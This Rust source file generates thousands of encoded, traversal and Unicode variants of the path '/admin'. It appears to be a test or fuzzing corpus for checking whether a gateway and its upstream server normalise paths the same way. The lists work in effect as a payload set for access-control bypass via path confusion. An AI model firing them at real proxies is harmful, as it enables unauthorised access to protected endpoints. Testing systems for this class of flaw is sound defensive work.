//! Other spellings of the path `/admin`, as somebody writes them who wants a gateway and its upstream to differ. Made
//! by rule, always the same. The characters U+0000 to U+00FF stand for bytes.

use std::collections::BTreeSet;

/// By hand: what somebody tries first.
const BASE: &[&str] = &[
    // Plain.
    "/public",
    "/public/",
    "/public/a",
    "/public?/admin",
    "/public?x=/../admin",
    "/public/a?//admin",
    "/admin",
    "/admin/",
    "/admin/a?/public",
    "/publicadmin",
    "/publication",
    "/administrator",
    "/",
    "/?/admin",
    "",
    "?/admin",
    "*",
    "admin",
    "public/../admin",
    // Dot segments.
    "/public/../admin",
    "/public/./../admin",
    "/public/a/../../admin",
    "/public/..",
    "/public/.",
    "/./admin",
    "/../admin",
    "/../../public/../admin",
    "/admin/../public",
    "/admin/.",
    "/admin/./a",
    "/admin/..",
    "/./public/../admin",
    "/public/.../admin",
    "/public/..../admin",
    "/public/..a/admin",
    "/public/a../admin",
    // Escaped dots.
    "/public/%2e%2e/admin",
    "/public/%2E%2E/admin",
    "/public/%2e./admin",
    "/public/.%2E/admin",
    "/public/%2e/admin",
    "/public/a/%2e%2e/%2e%2e/admin",
    "/admin/%2e%2e/public",
    "/%2e%2e/admin",
    "/public/%2e%2e%2fadmin",
    // Escaped slashes and backslashes.
    "/public/..%2fadmin",
    "/public/..%2Fadmin",
    "/public%2f..%2fadmin",
    "/%2fadmin",
    "/public%2fadmin",
    "/admin%2f..%2fpublic",
    "/public/..%5cadmin",
    "/public/..%5Cadmin",
    "/public%5c..%5cadmin",
    "/public\\..\\admin",
    "/public/..\\admin",
    "\\admin",
    "/\\admin",
    "/public\\admin",
    // Escapes of escapes.
    "/public/%252e%252e/admin",
    "/public/..%252fadmin",
    "/public/%25252e%25252e/admin",
    "/%2561dmin",
    "/public/..%255cadmin",
    "/public%253badmin",
    "/public/%25%32%65%25%32%65/admin",
    // Empty segments.
    "//admin",
    "///admin",
    "//public",
    "/public//../admin",
    "/public//admin",
    "/admin//a",
    "/public/a//",
    "//public/..//admin",
    // What looks like an authority.
    "//host/admin",
    "//host:80/admin",
    "//user@host/admin",
    "/public/http://host/admin",
    "http://host/admin",
    "http://host/public/../admin",
    "http://host/public",
    "http://host",
    "http:///admin",
    "https://host/admin",
    "HTTP://host/admin",
    "ftp://host/admin",
    "http:/admin",
    // Parameters of segments.
    "/public/..;/admin",
    "/public/..;a=b/admin",
    "/public/.;/../admin",
    "/public;/../admin",
    "/;/admin",
    "/admin;",
    "/admin;a=b",
    "/admin;/a",
    "/public;a=/admin",
    "/public/%3b/../admin",
    "/public/..%3b/admin",
    "/;a=b/admin",
    // Control characters, spaces and what is not ASCII.
    "/public/%00/../admin",
    "/admin%00",
    "/admin%00.html",
    "/%00/admin",
    "/public%00/../admin",
    "/admin%0a",
    "/admin%0d%0a",
    "/public/%09../admin",
    "/public/..%09/admin",
    "/public/%7f",
    "/ad\tmin",
    "/public/.\t./admin",
    "/admin ",
    "/public /admin",
    " /admin",
    "/public/..\u{0}/admin",
    "/\u{61}dmin",
    "/public/\u{e9}",
    "/public/\u{c3}\u{a9}",
    "/\u{c1}\u{a1}dmin",
    "/public/%c3%a9",
    "/public/%C3%A9/admin",
    "/public/%e9",
    "/public/%ff%fe",
    // Overlong and otherwise wrong UTF-8.
    "/public/%c0%ae%c0%ae/admin",
    "/public/%c0%ae./admin",
    "/public/..%c0%afadmin",
    "/public/..%e0%80%afadmin",
    "/public/..%c1%9cadmin",
    "/%c1%a1dmin",
    "/public/%uff0e%uff0e/admin",
    "/public/..%u2215admin",
    "/public/%ef%bc%8e%ef%bc%8e/admin",
    "/public/%ef%bc%8fadmin",
    "/public/%e2%88%95admin",
    // Needless escapes, and case.
    "/%61dmin",
    "/%61%64%6d%69%6e",
    "/%41dmin",
    "/ADMIN",
    "/Admin",
    "/%70ublic/a",
    "/public/%61dmin",
    "/adm%69n/%7e",
    "/PUBLIC/../admin",
    // Broken escapes.
    "/public/%",
    "/public/%2",
    "/public/%2/../admin",
    "/public/%zz/admin",
    "/public/%2%65/admin",
    "/public/%+2e/admin",
    // Fragments and second question marks.
    "/public#/../admin",
    "/admin#",
    "/public%23/../admin",
    "/public?#/admin",
    "/public%3f/../admin",
    "/public%3F/admin",
    "/admin%3f",
    "/public??/admin",
    // Ends of names.
    "/admin.",
    "/admin..",
    "/admin%20",
    "/admin%2e",
    "/admin.html",
    "/admin~",
    "/admin:a",
    "/admin%3aa",
    "/public/a:b@c",
    "/public/a%3Ab%40c",
    "/public/a+b%2Bc",
    "/public/{a}|`^\"<>",
];

/// What somebody may take for `..`.
const DOTS: &[&str] = &[
    "..",
    "%2e%2e",
    "%2E.",
    ".%2e",
    "%252e%252e",
    ".%252e",
    "%25252e.",
    ".",
    "%2e",
    "...",
    "..;",
    "..;a=b",
    "..%3b",
    "..%3Ba=b",
    "..%00",
    "..%20",
    "%20..",
    ". .",
    ".%09.",
    "..%09",
    "..%0a",
    "..%0d",
    "..%c2%a0",
    "..%2e",
    "..%2e%20",
    "..%e2%80%8b",
    ".%e2%80%8b.",
    "%ef%bb%bf..",
    "..%c2%ad",
    "%ef%bc%8e%ef%bc%8e",
    ".%ef%bc%8e",
    "%e2%80%a5",
    "%e2%80%a4.",
    "%ef%b9%92%ef%b9%92",
    "%c0%ae%c0%ae",
    ".%c0%ae",
    "%e0%80%ae%e0%80%ae",
    "%u002e%u002e",
    "..%u0020",
    "%%32%65%%32%65",
    "..%",
    "..?",
    "..#",
    "..:",
    "~..",
];

/// What somebody may take for `/`.
const SLASHES: &[&str] = &[
    "/",
    "//",
    "%2f",
    "%2F",
    "%252f",
    "\\",
    "%5c",
    "%255C",
    "/./",
    "/%2e/",
    ";/",
    "%00/",
    "%c0%af",
    "%e0%80%af",
    "%ef%bc%8f",
    "%e2%88%95",
    "%ef%bc%bc",
    "%20/",
];

/// Characters that some reader drops, trims, or takes for several others.
const CHARACTERS: &[char] = &[
    // Format characters and other invisible ones.
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{202a}',
    '\u{202c}',
    '\u{202e}',
    '\u{2060}',
    '\u{2061}',
    '\u{2064}',
    '\u{2066}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{fe00}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{fff9}',
    '\u{fffb}',
    '\u{1bca0}',
    '\u{1d173}',
    '\u{e0001}',
    '\u{e0020}',
    '\u{e007f}',
    // Blanks.
    '\u{85}',
    '\u{a0}',
    '\u{1680}',
    '\u{2000}',
    '\u{2003}',
    '\u{2007}',
    '\u{2009}',
    '\u{200a}',
    '\u{2028}',
    '\u{2029}',
    '\u{202f}',
    '\u{205f}',
    '\u{3000}',
    '\u{2800}',
    '\u{3164}',
    '\u{ffa0}',
    // Dots, slashes and other marks by compatibility, or by their looks.
    '\u{2024}',
    '\u{2025}',
    '\u{2026}',
    '\u{fe19}',
    '\u{fe30}',
    '\u{fe52}',
    '\u{ff0e}',
    '\u{ff61}',
    '\u{3002}',
    '\u{b7}',
    '\u{2488}',
    '\u{2044}',
    '\u{2215}',
    '\u{29f8}',
    '\u{ff0f}',
    '\u{fe68}',
    '\u{ff3c}',
    '\u{2216}',
    '\u{2100}',
    '\u{2101}',
    '\u{2105}',
    '\u{2106}',
    '\u{ff05}',
    '\u{fe6a}',
    '\u{ff1b}',
    '\u{fe54}',
    '\u{37e}',
    '\u{ff1f}',
    '\u{fe56}',
    '\u{ff03}',
    '\u{fe5f}',
    '\u{ff1a}',
    '\u{2a74}',
    '\u{338}',
    '\u{301}',
    '\u{fffd}',
    '\u{130}',
    '\u{131}',
    '\u{212a}',
    '\u{17f}',
];

/// Letters that are those of `admin` by compatibility.
const LETTERS: [&[char]; 5] = [
    &['\u{ff41}', '\u{aa}', '\u{1d43}', '\u{24d0}', '\u{1d41a}', '\u{ff21}'],
    &['\u{ff44}', '\u{1d48}', '\u{24d3}', '\u{217e}', '\u{1d41d}'],
    &['\u{ff4d}', '\u{1d50}', '\u{24dc}', '\u{217f}', '\u{1d426}'],
    &['\u{ff49}', '\u{2071}', '\u{24d8}', '\u{2170}', '\u{1d422}'],
    &['\u{ff4e}', '\u{207f}', '\u{24dd}', '\u{1d427}'],
];

/// All spellings, each once.
#[must_use]
pub fn paths() -> Vec<String> {
    let mut paths = Paths { all: Vec::new(), known: BTreeSet::new() };
    BASE.iter().for_each(|path| paths.add(*path));
    for dots in DOTS {
        for after in SLASHES {
            for before in ["/", "//", "%2f", "\\"] {
                paths.add(format!("/public{before}{dots}{after}admin"));
            }
            paths.add(format!("/{dots}{after}admin"));
            paths.add(format!("/x{after}{dots}{after}admin"));
            paths.add(format!("/admin{after}{dots}{after}public"));
        }
    }
    for byte in 0..=u8::MAX {
        paths.insert(&format!("%{byte:02x}"));
        paths.add(format!("/public/..%25{byte:02X}/admin"));
        paths.add(format!("/admin%{byte:02X}/a"));
        // The end of a line is the end of a path.
        if !matches!(byte, b'\r' | b'\n') {
            let raw = char::from(byte);
            paths.add(format!("/admin{raw}"));
            paths.add(format!("/public/..{raw}/admin"));
            paths.add(format!("/public{raw}../admin"));
        }
    }
    for character in CHARACTERS {
        paths.insert(&escape(*character));
        paths.add(format!("/admin{}", raw(*character)));
        paths.add(format!("/public/..{}/admin", raw(*character)));
    }
    for (index, (letter, others)) in "admin".chars().zip(LETTERS).enumerate() {
        let byte = u32::from(letter);
        let forms = [
            format!("%{byte:02x}"),
            format!("%25{byte:02x}"),
            format!("%2525{byte:02x}"),
            format!("%u00{byte:02x}"),
            format!("%c1%{byte:02x}"),
            format!("%c1%{:02x}", 0x80 | (byte & 0x3f)),
            format!("%e0%81%{:02x}", 0x80 | (byte & 0x3f)),
            format!("%{:02x}", byte - 0x20),
            format!("{letter}%e2%80%8b"),
            format!("{letter}%cc%81"),
            format!("{letter}%00"),
            format!("{letter}/"),
            format!("{letter}%2f"),
        ];
        for form in forms.into_iter().chain(others.iter().map(|other| escape(*other))) {
            let letters = "admin".chars().enumerate();
            let spelled: String =
                letters.map(|(place, letter)| if place == index { form.clone() } else { letter.into() }).collect();
            for path in ["/", "//", "/public/../", "/public/%2e%2e/", "/./"] {
                paths.add(format!("{path}{spelled}"));
            }
            paths.add(format!("/{spelled}/a"));
        }
    }
    for mask in 0..32_u32 {
        let word: String =
            "admin".chars().enumerate().map(|(place, letter)| change(letter, mask >> place & 1)).collect();
        for (before, after) in [("/", ""), ("/", "/"), ("/", "/a?b"), ("/public/", ""), ("/x/../", ""), ("/x%2f", "")] {
            paths.add(format!("{before}{word}{after}"));
        }
    }
    paths.all
}

struct Paths {
    all: Vec<String>,
    known: BTreeSet<String>,
}

impl Paths {
    fn add(&mut self, path: impl Into<String>) {
        let path = path.into();
        if self.known.insert(path.clone()) {
            self.all.push(path);
        }
    }

    /// Something at every place where it may be overlooked, or seen.
    fn insert(&mut self, text: &str) {
        for path in [
            format!("/admin{text}"),
            format!("/{text}admin"),
            format!("/ad{text}min"),
            format!("/{text}/admin"),
            format!("/x{text}admin"),
            format!("/x{text}..{text}admin"),
            format!("/public/..{text}/admin"),
            format!("/public/{text}../admin"),
            format!("/public/.{text}./admin"),
            format!("/public/.{text}/admin"),
            format!("/public/{text}/admin"),
            format!("/public/{text}{text}/admin"),
            format!("/public{text}../admin"),
            format!("/public/..{text}admin"),
            format!("/public{text}/../admin"),
        ] {
            self.add(path);
        }
    }
}

fn change(letter: char, is_large: u32) -> char {
    if is_large == 1 { letter.to_ascii_uppercase() } else { letter }
}

fn escape(character: char) -> String {
    character.to_string().bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn raw(character: char) -> String {
    character.to_string().bytes().map(char::from).collect()
}
